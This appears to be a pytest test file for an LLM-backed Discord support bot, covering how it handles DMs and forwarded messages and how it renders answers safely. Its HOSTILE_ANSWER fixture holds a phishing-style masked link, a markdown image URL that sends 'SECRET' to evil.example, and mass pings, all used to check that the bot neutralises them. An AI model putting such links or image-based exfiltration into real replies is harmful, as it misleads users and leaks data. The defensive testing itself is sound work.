    await sim.dispatch(
        "MESSAGE_CREATE",
        sim.message_create(ACME_SUPPORT, ALICE, "고마워요 🙏", reply_to=answer["id"]),
    )

    await _eventually(lambda: len(_signals_of(kb_app, row.id)) == 1)
    await quiet()
    assert len(sim.sent_messages(ACME_SUPPORT)) == 1


@pytest.mark.parametrize(
    "text", ["🔥🔥🔥", "   ", "<:blobcat:123456789012345678> <a:party:123456789012345679>", "?!"]
)
async def test_a_dm_without_words_gets_the_prompt_not_a_retrieved_passage(
    start_bot: StartBot, sim: DiscordSimulator, kb_app: App, llm: OpenAIChatSimulator, text: str
):
    await start_bot()

    question = await dm(sim, ALICE, ALICE_DM, text)

    [reply] = await bot_messages(sim, ALICE_DM)
    await quiet()
    assert "What would you like to know?" in reply["content"]
    assert "무엇이 궁금하신가요?" in reply["content"]
    assert "Sources" not in reply["content"] and llm.chat_requests() == []
    assert interactions(kb_app, [question["id"]]) == []


@pytest.mark.parametrize(
    ("original", "question"),
    [
        ("How long is the password reset link valid?",
         "How long is the password reset link valid?"),
        (f"<@{BOB}> how long is the password reset link valid? <:blobcat:123456789012345678>",
         "@user how long is the password reset link valid? :blobcat:"),  # no server to name them
    ],
)  # fmt: skip
async def test_a_message_forwarded_into_a_dm_is_answered_from_the_forwarded_words(
    start_bot: StartBot, sim: DiscordSimulator, kb_app: App, original: str, question: str
):
    await start_bot()
    forwarded = sim.store_message(sim.message_create(ACME_GENERAL, BOB, original))

    forward = sim.message_create(ALICE_DM, ALICE, forward_of=forwarded["id"])
    await sim.dispatch("MESSAGE_CREATE", forward)

    [answer] = await bot_messages(sim, ALICE_DM)
    assert forward["content"] == "" and forward["message_reference"]["type"] == 1
    assert "password-and-sso.md" in answer["content"]
    assert "What would you like to know?" not in answer["content"]
    [row] = await recorded(kb_app, forward)
    assert row.question == question and row.thread_id == ALICE_DM


async def test_a_dm_sent_with_an_embed_only_is_answered_from_the_embed(
    start_bot: StartBot, sim: DiscordSimulator, kb_app: App
):
    await start_bot()
    embed = {"title": "Password reset", "description": "How long is the reset link valid?"}

    question = sim.message_create(ALICE_DM, ALICE, "", embeds=[embed])
    await sim.dispatch("MESSAGE_CREATE", question)

    [answer] = await bot_messages(sim, ALICE_DM)
    assert "password-and-sso.md" in answer["content"]
    [row] = await recorded(kb_app, question)
    assert row.question == "Password reset\n\nHow long is the reset link valid?"


async def test_a_korean_greeting_gets_the_korean_prompt(
    start_bot: StartBot, sim: DiscordSimulator, llm: OpenAIChatSimulator
):
    await start_bot()
    await dm(sim, ALICE, ALICE_DM, "안녕하세요 ㅎㅎ")
    [reply] = await bot_messages(sim, ALICE_DM)
    assert "무엇이 궁금하신가요?" in reply["content"] and "What would" not in reply["content"]
    assert llm.chat_requests() == []


# --- what goes out: rendered safely, split within 2,000 characters, no pings, no embeds ----------

SHARED_CASES = Path(__file__).resolve().parents[2] / "shared" / "cases"
HOSTILE_ANSWER = (
    "Reset it here: [https://help.acme.example/reset](https://evil.example/login) [1] "
    "![x](https://evil.example/p.png?q=SECRET)\n\n"
    "Ping @everyone @here <@123456789012345678> <@&123456789012345678> <!channel> and "
    "<https://evil.example|the official page> or https://evil.example/bare [1].\n\n"
    "```python\ndef f(**kwargs):  # <@1> stays as written\n    pass\n```"
)
SUPPRESS_EMBEDS, EPHEMERAL = 4, 64


def _sent_bodies(sim: DiscordSimulator) -> list[dict[str, Any]]:
    """Every message body the bot sent: channel posts, interaction callbacks and followups."""
    bodies = []
    for call in sim.calls("POST"):
        channel_post = call.path.startswith("/channels/") and call.path.endswith("/messages")
        if channel_post or call.path.startswith("/webhooks/"):
            bodies.append(call.body)
        elif call.path.endswith("/callback") and call.body.get("type") == 4:
            bodies.append(call.body["data"])
    return bodies


def _assert_sent_safely(body: dict[str, Any]) -> None:
    from tests.chat_checks import bare_addresses, fences_balanced, live_links, pings

    content = body.get("content") or ""
    assert body.get("flags", 0) & SUPPRESS_EMBEDS, body
    assert body["allowed_mentions"]["parse"] == [], body
    assert not body["allowed_mentions"].get("users") and not body["allowed_mentions"].get("roles")
    assert len(content) <= 2_000 and fences_balanced(content)
    assert pings(content, "discord") == [], content
    assert bare_addresses(content, "discord") == [], content
    assert not any("evil.example" in url for url, _ in live_links(content, "discord")), content


async def test_answers_in_dms_and_servers_ping_nobody_embed_nothing_and_link_nowhere_else(
    start_bot: StartBot, sim: DiscordSimulator, llm: OpenAIChatSimulator
):
    llm.responder = lambda messages: HOSTILE_ANSWER
    await start_bot()

    await dm(sim, ALICE, ALICE_DM, "How do I reset my password?")
    question = sim.message_create(ACME_GENERAL, ALICE, "How do I reset it?", mention_bot=True)
    await sim.dispatch("MESSAGE_CREATE", question)

    [in_dm] = await bot_messages(sim, ALICE_DM)
    [in_server] = await bot_messages(sim, ACME_GENERAL)
    bodies = _sent_bodies(sim)
    assert len(bodies) == 2
    for body in bodies:
        _assert_sent_safely(body)
    for message in (in_dm, in_server):
        assert message["flags"] & SUPPRESS_EMBEDS and message["embeds"] == []
        assert not message["mention_everyone"] and message["mentions"] == []
        assert message["mention_roles"] == []
        assert (
            "```python\ndef f(**kwargs):  # <@1> stays as written\n    pass\n```"
            in (message["content"])
        )


async def test_the_long_fenced_answer_is_sent_as_balanced_parts_each_a_valid_message(
    start_bot: StartBot, sim: DiscordSimulator, llm: OpenAIChatSimulator
):
    answer = (SHARED_CASES / "long-fenced-answer" / "answer.md").read_text(encoding="utf-8")
    llm.responder = lambda messages: answer
    await start_bot()

    await dm(sim, ALICE, ALICE_DM, "What does the full agent configuration look like?")

    parts = await bot_messages(sim, ALICE_DM, count=3)
    await quiet()
    assert len(sim.sent_messages(ALICE_DM)) == 3
    for body in _sent_bodies(sim):
        _assert_sent_safely(body)
    sizes = [len(p["content"]) for p in parts]
    assert min(sizes) > 0.8 * max(sizes), sizes
    assert all(p["content"].startswith("```yaml\nsetting_") for p in parts[1:])
    shown = [line for p in parts for line in p["content"].split("\n") if line[:8] == "setting_"]
    assert shown == [line for line in answer.split("\n") if line.startswith("setting_")]
    assert "**Sources**" in parts[-1]["content"]


async def test_ask_public_and_private_answers_go_out_safe_and_without_embeds(
    start_bot: StartBot, sim: DiscordSimulator, llm: OpenAIChatSimulator
):
    long_answer = HOSTILE_ANSWER + "\n\n" + "\n\n".join(["More detail here [1]. " * 20] * 8)
    llm.responder = lambda messages: long_answer
    await start_bot()

    public = sim.interaction(
        "ask", user=ALICE, channel_id=ACME_GENERAL, options={"question": "How do I reset it?"}
    )
    private = sim.interaction(
        "ask", user=ALICE, channel_id=ACME_GENERAL,
        options={"question": "How do I reset it?", "private": True},
    )  # fmt: skip
    await sim.dispatch("INTERACTION_CREATE", public)
    await sim.dispatch("INTERACTION_CREATE", private)
    await sim.wait_for_call("POST", "/webhooks/*", count=4, timeout=20)
    await quiet()

    for interaction, ephemeral in ((public, False), (private, True)):
        followups = [r for r in sim.interaction_replies(interaction["id"]) if r.kind == "followup"]
        assert len(followups) >= 2  # split: more than 2,000 characters
        for reply in followups:
            _assert_sent_safely(reply.body)
            assert bool(reply.body.get("flags", 0) & EPHEMERAL) is ephemeral


async def test_notices_workspace_replies_and_apologies_ping_nobody_and_embed_nothing(
    start_bot: StartBot, sim: DiscordSimulator, llm: OpenAIChatSimulator
):
    await start_bot()

    await dm(sim, CAROL, CAROL_DM, "hello?")  # shares no server: how to get access
    setup = sim.message_create(EMPTY2_CHANNEL, ALICE, "How do refunds work?", mention_bot=True)
    await sim.dispatch("MESSAGE_CREATE", setup)  # a server without knowledge: setup notice
    llm.fail_next(3, status=500)
    await dm(sim, ALICE, ALICE_DM, "What is the API rate limit?")  # the apology
    choose = sim.interaction(
        "workspace", user=BOB, channel_id=BOB_DM, options={"name": "@everyone <@&42> `x`"}
    )
    await sim.dispatch("INTERACTION_CREATE", choose)
    await bot_messages(sim, CAROL_DM)
    await bot_messages(sim, EMPTY2_CHANNEL)
    [apology] = await bot_messages(sim, ALICE_DM)
    await sim.wait_for_call("POST", "/interactions/*", timeout=10)

    bodies = _sent_bodies(sim)
    assert len(bodies) == 4
    for body in bodies:
        _assert_sent_safely(body)
    assert apology["content"].startswith("Sorry, I couldn't answer")
    [reply] = sim.interaction_replies(choose["id"])
    assert "is not the workspace of a server we share" in reply.body["data"]["content"]
